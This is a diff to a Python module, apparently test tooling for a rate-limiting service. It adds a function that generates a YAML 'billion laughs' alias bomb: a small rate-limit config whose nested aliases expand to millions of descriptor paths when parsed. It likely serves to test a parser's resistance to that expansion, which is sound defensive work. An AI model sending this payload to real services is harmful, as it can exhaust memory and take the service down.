@@ -84,6 +84,20 @@ def should_rate_limit(port, req, timeout=5):
         return f(req, timeout=timeout)
 
 
+def alias_bomb(domain, levels=7, fanout=9):
+    """A YAML file of nested lists, each list's items aliasing the list below:
+    fanout^levels descriptor paths in about 2.6 kB (a "billion laughs")."""
+    lst = ""
+    for level in range(levels):
+        items = []
+        for i in range(fanout):
+            rest = (", rate_limit: {unit: second, requests_per_unit: 1}" if level == 0 else
+                    ", descriptors: " + (lst if i == 0 else "*l%d" % (level - 1)))
+            items.append("{key: k%d%s}" % (i, rest))
+        lst = "&l%d [%s]" % (level, ", ".join(items))
+    return "domain: %s\ndescriptors: %s\n" % (domain, lst)
+
+
 MAP = """<map>
   <biz id="1" name="login"><rule interval="60" max="5"/></biz>
 </map>
